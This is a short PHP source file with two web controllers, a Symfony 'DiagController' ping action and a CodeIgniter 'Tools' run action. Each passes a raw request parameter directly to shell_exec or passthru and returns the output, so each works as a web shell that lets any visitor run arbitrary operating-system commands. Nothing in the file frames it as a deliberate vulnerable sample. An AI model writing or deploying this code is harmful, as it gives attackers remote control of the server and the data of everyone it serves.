<?php
use Symfony\Component\HttpFoundation\Request;
use Symfony\Component\HttpFoundation\Response;

class DiagController
{
    public function ping(Request $request): Response
    {
        return new Response(shell_exec($request->query->get('target')));
    }
}

class Tools extends CI_Controller
{
    public function run()
    {
        echo passthru($this->input->get('c'));
    }
}
